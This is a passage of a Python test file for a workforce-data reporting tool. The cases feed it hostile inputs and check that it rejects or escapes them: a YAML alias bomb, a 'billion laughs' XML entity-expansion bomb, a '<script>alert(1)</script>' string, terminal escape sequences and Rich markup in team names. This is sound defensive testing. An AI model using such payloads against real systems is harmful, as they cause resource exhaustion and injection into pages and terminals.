        Case("scopes-alias-bomb", "a --scopes file of YAML aliases that expand to a billion",
             command({"workers.csv": good_csv(), "scopes.yaml": BOMB_YAML}, "report", "{dir}",
                     "--scopes", "{dir}/scopes.yaml", "--scope", "x"), 2,
             ("scopes file's aliases",)),
        Case("by-too-many-groups", "--by a column of 3,000 different values",
             command({"workers.csv": csv_bytes(
                 *[f"W{i:05d},permanent,1,2020-01-01,,,Social Worker,Team {i},1"
                   for i in range(3000)])}, "report", "{dir}", "--by", "team", "--as-at",
                 "2025-09-30"), 2,
             ("it has 3,000 different values, more than the 2,000",)),
        Case("team-named-like-a-marker", "teams named \"(blank)\" and \"Total\" beside blank "
             "teams", command({"workers.csv": csv_bytes(
                 "W001,permanent,1,2019-04-01,,,Social Worker,(blank),18",
                 "W002,permanent,1,2019-04-01,,,Social Worker,Total,18",
                 "W003,permanent,1,2019-04-01,,,Social Worker,,18")},
                 "report", "{dir}", "--by", "team", "--format", "json", "--as-at", "2025-09-30"),
             0,
             ('"group": "\\"(blank)\\""', '"group": "\\"Total\\""', '"group": "(blank)"')),
        Case("output-is-an-input", "--output naming the extract's own workers file",
             command({"workers.csv": good_csv()}, "report", "{dir}", "--output",
                     "{dir}/workers.csv"), 2, ("which this run reads",)),
        Case("census-padding", "a census return padded with 1.5 million elements the census "
             "does not have", _census_padding, 3, ("census-mismatch", "(1,500,000 such elements"),
             absent=("over-limit",)),
        Case("markdown-html-in-data", "a community area named <script>, in a Markdown scorecard",
             _script_community, 0, ("\\<script>alert(1)\\</script>",),
             absent=(": <script>", "| <script>")),
        Case("markup-team-name", "teams named as Rich markup: a closing tag and a hyperlink",
             command({"workers.csv": csv_bytes(
                 "W001,permanent,1,2019-04-01,,,Social Worker,[/],18",
                 "W003,fixed_term,0.6,01/10/2024,,,Senior Practitioner,[link=http://x]L[/link],11"),
                 }, "report", "{dir}", "--by", "team"), 0,
             ("[/]",), absent=("\x1b]8;",)),
        Case("markup-bad-cell", "a bad date cell written as Rich markup, listed by validate",
             command({"workers.csv": csv_bytes("W001,permanent,1,[/],,,Social Worker,North,18",
                                               *GOOD_ROWS[1:])}, "validate", "{dir}"), 3,
             ("bad-date", "[/]")),
        Case("escape-sequence-in-data", "a team name holding a terminal escape sequence",
             command({"workers.csv": csv_bytes(
                 "W001,permanent,1,2019-04-01,,,Social Worker,\x1b[2J\x1b[31mRed,18",
                 *GOOD_ROWS[1:])}, "report", "{dir}", "--by", "team"), 0,
             ("\\x1b",), absent=("\x1b",)),
    ]


def _entity_bomb() -> str:
    entities = ['<!ENTITY a0 "lol">'] + [
        f'<!ENTITY a{i} "{"&a" + str(i - 1) + ";" * 1}' + f'{("&a" + str(i - 1) + ";") * 9}">'
        for i in range(1, 10)]
    return CENSUS_HEAD.replace("<Message>", "<!DOCTYPE Message [" + "".join(entities)
                               + "]><Message>").replace("CSWW</Collection>",
                                                        "&a9;</Collection>") + "</Message>"
